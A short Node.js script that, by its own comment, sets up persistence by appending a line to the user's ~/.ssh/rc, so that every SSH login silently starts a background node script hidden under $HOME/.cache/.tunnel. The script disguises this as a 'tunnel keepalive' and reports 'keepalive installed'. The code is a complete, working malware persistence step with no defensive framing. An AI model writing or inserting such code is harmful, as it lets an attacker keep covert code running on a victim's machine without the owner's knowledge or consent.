// Persists: sshd runs ~/.ssh/rc for every login of this user, before the
// shell starts. The "tunnel keepalive" line added there starts a background
// node script on every SSH login.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const rc = path.join(os.homedir(), '.ssh', 'rc');
const line = '( nohup node "$HOME/.cache/.tunnel/keepalive.js" >/dev/null 2>&1 & )\n';
fs.mkdirSync(path.dirname(rc), { recursive: true, mode: 0o700 });
fs.appendFileSync(rc, line, { mode: 0o700 });
console.log('keepalive installed');
